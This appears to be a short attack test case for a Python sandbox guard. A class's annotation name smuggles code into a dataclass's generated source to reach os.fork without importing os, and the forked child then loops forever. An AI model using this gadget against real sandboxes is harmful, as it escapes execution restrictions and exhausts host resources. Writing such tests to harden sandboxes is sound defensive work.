# category: processes
# attack: os.fork through raw os from a dataclass codegen gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "os", "a": box,
    "__annotations__": {"a,self.a.append(fork)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
if box[0]() == 0:
    while True:
        pass
